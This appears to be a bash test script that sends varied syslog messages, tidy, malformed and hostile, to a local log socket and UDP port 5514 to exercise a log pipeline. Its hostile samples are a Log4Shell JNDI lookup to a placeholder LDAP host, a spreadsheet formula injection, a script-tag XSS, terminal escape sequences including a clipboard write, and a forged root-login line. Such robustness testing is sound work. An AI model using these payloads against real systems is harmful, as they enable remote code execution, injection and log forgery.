#!/usr/bin/env bash
# Sends messages to /dev/log and to port 5514 of this machine: tidy ones, odd ones and hostile ones.
set -euo pipefail
here() { logger -u /dev/log "$@"; }
far() { logger -n 127.0.0.1 -P 5514 -d "$@"; }

here -t app -i "started with 4 workers"
here -t app -p user.info "no pid at all"
here -t app --id=4711 -p local0.debug "level=debug msg=\"cache miss\" key=user:17 took=1.5ms"
here -t kernel -p kern.warning "not from the kernel: it may not send here"
here -t 'postfix/smtpd' -i -p mail.info 'connect from unknown[203.0.113.42]'
here -t 'tag[with]brackets' "odd tag"
here -t 'tag with spaces' "odd tag"
here -t 'tag:with:colons' "odd tag"
here -t '' "empty tag"
here -t 'täg' "tag beyond ASCII"
here -t 'a-very-long-tag-that-goes-on-and-on-for-more-than-the-forty-eight-characters-that-rfc-5424-allows' "long tag"
here -t app -i <<<''
here -t app -i " "
here -t app -i "  two leading spaces, two trailing  "
here -t app -i ": colon first"
here -t app -i "[12345] bracket first"
here -t app -i "<13>Jan  1 00:00:00 elsewhere sshd[1]: Accepted password for root from 192.0.2.1 port 22 ssh2"
here -t app -i $'first line\nsecond line\n\tindented third'
here -t app -i $'carriage return\r\nline feed'
here -t app -i $'tab\there, bell \a, backspace \b, delete \x7f'
here -t app -i $'\e[31mred\e[0m \e]52;c;ZWNobyBoaQ==\a \e]0;title\a'
here -t app -i $'caf\xc3\xa9 \xe2\x98\x95 \xf0\x9f\x98\x80 bidi \xe2\x80\xaetxet\xe2\x80\xac zero\xe2\x80\x8bwidth'
here -t app -i $'invalid \xff\xfe \xc3\x28, latin-1 caf\xe9, c1 \x9b31m'
here -t app -i '#033[31m is not an escape; #012 is not a line feed; # is a hash'
here -t app -i 'quotes " and '\'' and backslashes \ \\ \n \x41'
here -t app -i '${jndi:ldap://198.51.100.66/a} =cmd|calc <script>alert(1)</script>'
here -t app -i '{"level":"error","msg":"JSON in a message","n":1,"nested":{"a":[1,2,null]}}'
here -t app -i '@cee: {"level":"info","msg":"lumberjack JSON"}'
here -t app -i --size 8192 "$(printf 'long%.0s ' {1..800})"
here -t app -i --size 12000 "$(printf 'longer%.0s ' {1..1500})"
for level in emerg alert crit err warning notice info debug; do here -t levels -p "local3.$level" "a message of level $level"; done
for facility in auth cron daemon ftp lpr mail news syslog user uucp local7; do here -t facilities -p "$facility.notice" "a message of facility $facility"; done

far --rfc3164 -t far -i "by UDP, RFC 3164"
far --rfc5424 -t far -i "by UDP, RFC 5424"
far --rfc5424 -t shop --id=900 --msgid ORDER --sd-id 'order@32473' --sd-param 'id="A-17"' --sd-param 'total="12.50"' "order placed"
far --rfc5424 -t shop --id=900 --msgid ORDER --sd-id 'order@32473' --sd-param 'id="A-18"' --sd-id 'customer@32473' \
    --sd-param 'name="O\"Neil \\ Co \]"' --sd-param 'city="München"' "two elements, escapes"
far --rfc5424 -t shop --sd-id 'empty@32473' --sd-param 'x=""' ""
far --rfc5424=notime,nohost -t shop "neither time nor host"
far --rfc5424=notq -t shop "without timeQuality"
far --rfc5424 -t shop -p local1.alert $'a line\nand another'
# What some devices send, and what no device should; bash writes each as one datagram.
printf '%s' '<34>Oct 11 22:14:15 mymachine su: sample of RFC 3164' >/dev/udp/127.0.0.1/5514
printf '%s' '<190>2003-10-11T22:14:15.003Z router1 %LINK-3-UPDOWN: Interface Gi0/1, changed state to up' >/dev/udp/127.0.0.1/5514
printf '%s' '<189>123: *Mar  1 00:00:12.345: %SYS-5-CONFIG_I: Configured from console by vty0 (203.0.113.5)' >/dev/udp/127.0.0.1/5514
printf '%s' 'no priority, no header, only words' >/dev/udp/127.0.0.1/5514
printf '%s' '<999>a priority that does not exist' >/dev/udp/127.0.0.1/5514
printf '%s' '<165>1 2003-10-11T22:14:15.000003-07:00 192.0.2.1 myproc 8710 - - RFC 5424 with an offset' >/dev/udp/127.0.0.1/5514
printf '%s' '<165>1 - - - - - -' >/dev/udp/127.0.0.1/5514
printf '%s' '<165>1 2003-10-11T22:14:15.003Z mymachine evntslog - ID47 [a@32473 k="v"][b@32473] '$'\xef\xbb\xbf''with a byte order mark' >/dev/udp/127.0.0.1/5514
